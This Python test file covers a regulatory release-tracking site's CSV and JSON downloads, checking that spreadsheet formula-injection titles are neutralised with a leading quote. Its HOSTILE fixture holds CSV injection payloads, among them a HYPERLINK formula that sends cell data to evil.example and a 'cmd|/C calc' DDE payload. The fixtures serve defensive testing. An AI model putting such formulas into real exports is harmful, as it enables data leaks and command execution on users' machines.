"""The register as CSV, as a spreadsheet user gets it: read back with Python's csv module."""

from __future__ import annotations

import csv
import io
import json

from conftest import SETTINGS, VALID_MODIFICATION
from secsite import views
from secsite.checks import check_data
from secsite.model.diagnostics import errors
from secsite.render import downloads

# Titles a spreadsheet would run as formulas (OWASP, "CSV Injection"): each starts with =, +, -, @
# or a tab (check refuses a carriage return in a title). The second holds a comma and quotes, which
# must stay inside its one cell.
HOSTILE = {
    "MP101": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "MP102": '+1+cmd|\' /C calc\'!A0, "quoted"',
    "MP103": "-2+3",
    "MP104": "@SUM(1,2)",
    "MP105": "\t=1+1",
    "MP108": "\ufeff\u200b=1+1",  # invisible characters ahead of the formula hide it only from a reader
}
# Ordinary titles with the same characters further in: left as written.
ORDINARY = {
    "MP106": "Smart meters - 2027-06 changes",
    "MP107": "Costs = benefits? A review of +/- figures",
}


def _register(data) -> list[dict[str, str]]:
    for mod_id, title in {**HOSTILE, **ORDINARY}.items():
        text = VALID_MODIFICATION.replace("id: MP100", f"id: {mod_id}")
        text = text.replace("title: Improve something", f"title: {json.dumps(title)}")  # JSON is YAML
        data.write(f"modifications/{mod_id}.yml", text)
    _, schedule, problems = check_data(data.root, SETTINGS)
    assert not errors(problems), problems
    content = downloads.register_csv(views.register_rows(schedule))
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_titles_a_spreadsheet_would_run_start_with_a_quote(data):
    rows = {row["id"]: row for row in _register(data)}
    for mod_id, title in HOSTILE.items():
        assert rows[mod_id]["title"] == "'" + title, mod_id
    for mod_id, title in ORDINARY.items():
        assert rows[mod_id]["title"] == title, mod_id
    assert rows["MP100"]["title"] == "Improve something"


def test_ids_dates_and_words_are_unchanged(data):
    rows = _register(data)
    assert [row["id"] for row in rows] == ["MP100", *sorted({**HOSTILE, **ORDINARY})]  # one row each: quoting held
    # Every modification is the conftest one under another title: June 2027 if approved by
    # 1 December 2026, its go-live the last Thursday of June 2027 (R1), 24 June 2027.
    for row in rows:
        assert (row["stage"], row["route"], row["release"], row["release_status"]) == (
            "refinement", "self-governance", "2027-06", "Targeted")
        assert row["implementation"] == "Targeted for 24 June 2027 (June 2027 SEC Release)"
        assert row["implementation_date"] == "2027-06-24"
        assert (row["dcc_systems"], row["user_systems"], row["party_categories"]) == ("yes", "no", "large_suppliers")
        assert (row["next_key_date"], row["next_key_date_label"]) == ("2026-12-01", "Decision needed by")


# --- JSON downloads (site contract, "Data downloads") ------------------------------------------
#
# The conftest data on 26 November 2026: MP100 is targeted at June 2027 (approved by 1 December
# 2026), whose go-live is the last Thursday of June 2027, 24 June 2027. June is a System Release
# (R1): its systems cut-off is 12 months before, Thursday 24 June 2026, its documentation cut-off
# 6 months before, Thursday 24 December 2026 (a Working Day: this data has no calendar.yml).

from secsite.render.links import Links


def _checked(data):
    catalogue, schedule, problems = check_data(data.root, SETTINGS)
    assert not errors(problems), problems
    return catalogue, schedule


def test_modifications_json_has_each_modification_with_its_derived_fields(data):
    _, schedule = _checked(data)
    document = json.loads(downloads.modifications_json(schedule, "https://sec-releases.example.org/"))
    assert document["build_date"] == "2026-11-26"
    (mod,) = document["modifications"]
    assert (mod["id"], mod["title"], mod["stage"]) == ("MP100", "Improve something", "refinement")
    assert mod["url"] == "https://sec-releases.example.org/modifications/mp100/"
    assert mod["impacts"]["parties"] == {"large_suppliers": "high"}
    derived = mod["derived"]
    assert derived["implementation"] == "Targeted for 24 June 2027 (June 2027 SEC Release)"
    assert (derived["implementation_date"], derived["release"]) == ("2027-06-24", "2027-06")
    assert derived["awaiting_new_implementation_date"] is False
    assert derived["next_key_date"] == {"label": "Decision needed by", "date": "2026-12-01"}
    assert [(p["release"], p["status"], p["date"]) for p in derived["releases"]] == [("2027-06", "Targeted", "2027-06-24")]


def test_releases_json_has_derived_dates_scope_and_history(data):
    _, schedule = _checked(data)
    document = json.loads(downloads.releases_json(schedule, "https://sec-releases.example.org/"))
    assert document["build_date"] == "2026-11-26"
    releases = {r["id"]: r for r in document["releases"]}
    june = releases["2027-06"]
    assert (june["name"], june["kind"], june["type"], june["go_live"]) == (
        "June 2027 SEC Release", "scheduled", "system", "2027-06-24")
    assert june["url"] == "https://sec-releases.example.org/releases/2027-06/"
    assert june["milestones"]["go-live"]["due"] == "2027-06-24"
    assert june["milestones"]["systems-cutoff"]["due"] == "2026-06-24"
    assert june["milestones"]["documentation-cutoff"]["due"] == "2026-12-24"
    assert [(s["modification"], s["status"]) for s in june["scope"]] == [("MP100", "Targeted")]
    assert june["history"]["cancelled"] is None
    assert june["data"]["rid"] == [{"version": "0.1", "date": "2026-03-01", "summary": "First draft"}]
    # November 2027 has no file: first Thursday of November 2027, 4 November; no data.
    assert (releases["2027-11"]["go_live"], releases["2027-11"]["data"]) == ("2027-11-04", None)


def test_changes_json_covers_the_twelve_months_to_the_build_date(data):
    catalogue, schedule = _checked(data)
    document = json.loads(downloads.changes_json(views.change_log(catalogue, schedule), schedule,
                                                 "https://sec-releases.example.org/"))
    assert (document["build_date"], document["from"]) == ("2026-11-26", "2025-11-26")
    assert all("2025-11-26" <= c["date"] <= "2026-11-26" for c in document["changes"])
    dates = [c["date"] for c in document["changes"]]
    assert dates == sorted(dates, reverse=True)  # newest first
    # The June 2027 RID v0.1 of 1 March 2026 is one of them.
    rid = [c for c in document["changes"] if c["kind"] == "rid-version"]
    assert [(c["date"], c["subject"], c["title"]) for c in rid] == [("2026-03-01", "2027-06", "June 2027 SEC Release")]


def test_json_urls_follow_the_pages_urls_without_directory_urls(data):
    _, schedule = _checked(data)
    links = Links({"modifications/mp100/": "modifications/mp100.html", "releases/2027-06/": "releases/2027-06.html"})
    mods = json.loads(downloads.modifications_json(schedule, "https://sec-releases.example.org/", links))
    assert mods["modifications"][0]["url"] == "https://sec-releases.example.org/modifications/mp100.html"
    rels = json.loads(downloads.releases_json(schedule, "https://sec-releases.example.org/", links=links))
    assert {r["id"]: r["url"] for r in rels["releases"]}["2027-06"] == "https://sec-releases.example.org/releases/2027-06.html"


def test_the_bundled_register_has_one_row_per_modification():
    _, schedule, problems = check_data("data", SETTINGS)
    assert not errors(problems)
    content = downloads.register_csv(views.register_rows(schedule))
    assert content.startswith("\ufeff".encode("utf-8"))  # a BOM, for Excel
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 35
    mp293 = next(r for r in rows if r["id"] == "MP293")
    assert (mp293["release"], mp293["release_status"]) == ("2027-02-mp293", "Release cancelled")
    assert mp293["party_categories"] == "large_suppliers;small_suppliers"
